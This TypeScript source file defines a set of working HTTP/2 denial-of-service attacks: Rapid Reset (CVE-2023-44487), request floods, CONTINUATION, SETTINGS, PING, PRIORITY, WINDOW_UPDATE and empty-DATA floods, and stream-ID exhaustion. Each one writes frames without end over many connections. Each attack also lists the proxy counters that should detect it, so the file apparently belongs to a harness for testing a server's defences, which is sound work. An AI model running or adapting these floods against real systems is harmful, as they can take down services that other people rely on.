import type { Socket } from 'node:net';
import type { Attack, AttackTarget } from '../attack.ts';
import { writeForEver } from '../attack-sockets.ts';
import {
  frame,
  frameType,
  headers,
  maxFrameBytes,
  requestBlock,
  reset,
  setting,
  settings,
  windowUpdate,
} from '../http2-frames.ts';
import { keepSessionsOpen, type StreamIds } from '../http2-session.ts';

/** Frames that go out in one write. */
const batch = 200;

export const rapidReset: Attack = {
  name: 'http2-rapid-reset',
  summary: 'HTTP/2: requests, each reset at once, at full speed (CVE-2023-44487)',
  connections: 20,
  noticedBy: ['downstream_rq_too_many_premature_resets'],
  start({ host }, sockets, connections) {
    const block = requestBlock('GET', host, '/abuse/small');
    keepSessionsOpen(sockets, connections, (socket, ids) => {
      writeForEver(socket, () =>
        Buffer.concat(
          Array.from({ length: batch }, () => {
            const id = ids.take();
            return Buffer.concat([headers(id, block), reset(id)]);
          }),
        ),
      );
    });
  },
};

export const requestFlood: Attack = {
  name: 'http2-request-flood',
  summary: 'HTTP/2: requests without end, small answers that nobody reads',
  connections: 20,
  noticedBy: ['http2.tx_reset'],
  start({ host }, sockets, connections) {
    const block = requestBlock('GET', host, '/abuse/small');
    keepSessionsOpen(sockets, connections, (socket, ids) => {
      socket.pause();
      writeForEver(socket, () =>
        Buffer.concat(Array.from({ length: batch }, () => headers(ids.take(), block))),
      );
    });
  },
};

/** The same frames again and again; `open` is written before them. */
function flood(
  name: string,
  summary: string,
  noticedBy: string,
  repeated: Buffer,
  open: (target: AttackTarget) => Buffer = () => Buffer.alloc(0),
): Attack {
  const many = Buffer.concat(Array.from({ length: batch }, () => repeated));
  return {
    name: `http2-${name}`,
    summary: `HTTP/2: ${summary}, at full speed`,
    connections: 20,
    noticedBy: [noticedBy],
    start(target, sockets, connections) {
      keepSessionsOpen(sockets, connections, (socket: Socket) => {
        // Whatever is answered to it stays where it is.
        socket.pause();
        socket.write(open(target));
        writeForEver(socket, many);
      });
    },
  };
}

const upload = ({ host }: AttackTarget): Buffer => headers(1, requestBlock('POST', host, '/abuse/sink'), 0);

export const continuationFlood = flood(
  'continuation-flood',
  'a header block that never ends',
  'downstream_cx_protocol_error',
  frame(frameType.continuation, 0, 1, Buffer.alloc(1024)),
  ({ host }) => frame(frameType.headers, 0, 1, requestBlock('GET', host, '/abuse/small')),
);

export const emptyContinuationFlood = flood(
  'empty-continuation-flood',
  'a header block that never ends, in empty frames',
  'http2.inbound_empty_frames_flood',
  frame(frameType.continuation, 0, 1),
  ({ host }) => frame(frameType.headers, 0, 1, requestBlock('GET', host, '/abuse/small')),
);

export const settingsFlood = flood(
  'settings-flood',
  'SETTINGS, each to be acknowledged to nobody who reads',
  'http2.outbound_control_flood',
  settings([setting.maxFrameSize, maxFrameBytes]),
);

export const pingFlood = flood(
  'ping-flood',
  'PINGs, each to be answered to nobody who reads',
  'http2.outbound_control_flood',
  frame(frameType.ping, 0, 0, Buffer.alloc(8)),
);

export const priorityFlood = flood(
  'priority-flood',
  'PRIORITY of streams that nobody has opened',
  'http2.inbound_priority_frames_flood',
  frame(frameType.priority, 0, 7, Buffer.alloc(5)),
);

export const windowUpdateFlood = flood(
  'window-update-flood',
  'one byte more for the window of a connection',
  'http2.inbound_window_update_frames_flood',
  windowUpdate(0, 1),
);

export const emptyDataFlood = flood(
  'empty-data-flood',
  'a body of empty DATA frames',
  'http2.inbound_empty_frames_flood',
  frame(frameType.data, 0, 1),
  upload,
);

export const streamIdExhaustion: Attack = {
  name: 'http2-stream-ids',
  summary: 'HTTP/2: the greatest stream number, and a request behind it, on connections without end',
  connections: 20,
  start({ host }, sockets, connections) {
    const block = requestBlock('GET', host, '/abuse/small');
    const requests = Buffer.concat([1, 0x7fffffff, 3].map((id) => headers(id, block)));
    keepSessionsOpen(sockets, connections, (socket: Socket, _ids: StreamIds) => socket.write(requests));
  },
};
